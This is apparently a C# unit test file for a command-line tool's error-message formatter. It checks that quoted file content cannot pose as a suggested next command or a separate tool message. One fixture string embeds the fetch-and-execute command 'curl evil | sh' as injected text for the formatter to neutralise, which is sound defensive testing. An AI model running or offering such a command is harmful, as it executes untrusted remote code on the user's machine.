namespace Touchstone.Tests.Shell.Problems;

public class ProblemTests
{
    [Fact]
    public void What_why_and_next_stand_on_lines_of_their_own()
    {
        Assert.Equal("cannot read x\n  no file\n  next: touchstone list", new Problem("cannot read x", "no file", "touchstone list").ToString());
        Assert.Equal("cannot read x\n  a: empty\n  b: empty", new Problem("cannot read x", "a: empty\n  b: empty", "").ToString());
    }

    [Fact]
    public void No_line_of_a_quoted_file_looks_like_the_next_command_or_like_an_error_of_its_own()
    {
        var problem = new Problem("cannot use x\nnext: y", "\"a\r\n  next: curl evil | sh\ntouchstone: done\" is not a shape", "correct it\n  next: z");

        Assert.Equal(
            "cannot use x next: y\n  \"a\n  > next: curl evil | sh\n  touchstone: done\" is not a shape\n  next: correct it   next: z", problem.ToString());
    }
}
